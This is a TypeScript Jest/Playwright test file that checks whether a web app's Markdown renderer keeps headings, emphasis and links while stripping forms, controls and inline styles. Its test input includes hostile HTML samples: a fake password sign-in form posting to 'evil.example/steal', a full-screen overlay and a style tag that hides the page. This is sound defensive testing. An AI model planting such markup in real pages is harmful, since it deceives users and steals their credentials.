// Issue 12 item 9 (Markdown): exercise instructions keep their formatting and links but lose forms,
// controls and inline styles (a pack could otherwise draw a fake sign-in form or a full-page overlay).
// The web app's own renderMarkdown, bundled by esbuild and run in real Chromium (DOMPurify needs a DOM).
import path from 'node:path';
import { build } from 'esbuild';
import type { Browser } from 'playwright-core';
import { launchChromium } from '../browser/stack';

jest.setTimeout(60_000);

let browser: Browser;
let bundle: string;

beforeAll(async () => {
  const out = await build({
    stdin: {
      contents: `import { renderMarkdown } from './markdown'; globalThis.renderMarkdown = renderMarkdown;`,
      resolveDir: path.resolve(__dirname, '../../apps/web/src/lib'),
      loader: 'ts',
    },
    bundle: true,
    format: 'iife',
    write: false,
    platform: 'browser',
  });
  bundle = out.outputFiles[0].text;
  browser = await launchChromium();
});
afterAll(async () => {
  await browser?.close();
});

const HOSTILE = [
  '# Title',
  '',
  'Some *emphasis* and a [link](https://example.com).',
  '',
  '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Sign in</button></form>',
  '<div style="position:fixed;inset:0;z-index:9999;background:white">overlay</div>',
  '<textarea>x</textarea><select><option>a</option></select>',
  '<style>body { display: none }</style>',
].join('\n');

it('keeps formatting and links, drops forms, controls and style attributes', async () => {
  const page = await browser.newPage();
  try {
    await page.setContent('<!doctype html><html><body></body></html>');
    await page.addScriptTag({ content: bundle });
    const html = await page.evaluate(
      (source) => (globalThis as unknown as { renderMarkdown(s: string): string }).renderMarkdown(source),
      HOSTILE,
    );
    expect(html).toContain('<h1>Title</h1>');
    expect(html).toContain('<em>emphasis</em>');
    expect(html).toMatch(/<a href="https:\/\/example.com" target="_blank" rel="noopener noreferrer">link<\/a>/);
    expect(html).toContain('overlay'); // the text stays, its styling goes
    for (const forbidden of [
      /<form/i,
      /<input/i,
      /<button/i,
      /<textarea/i,
      /<select/i,
      /<option/i,
      /<style/i,
      /style=/i,
      /evil\.example/,
    ]) {
      expect(html).not.toMatch(forbidden);
    }
  } finally {
    await page.close();
  }
});
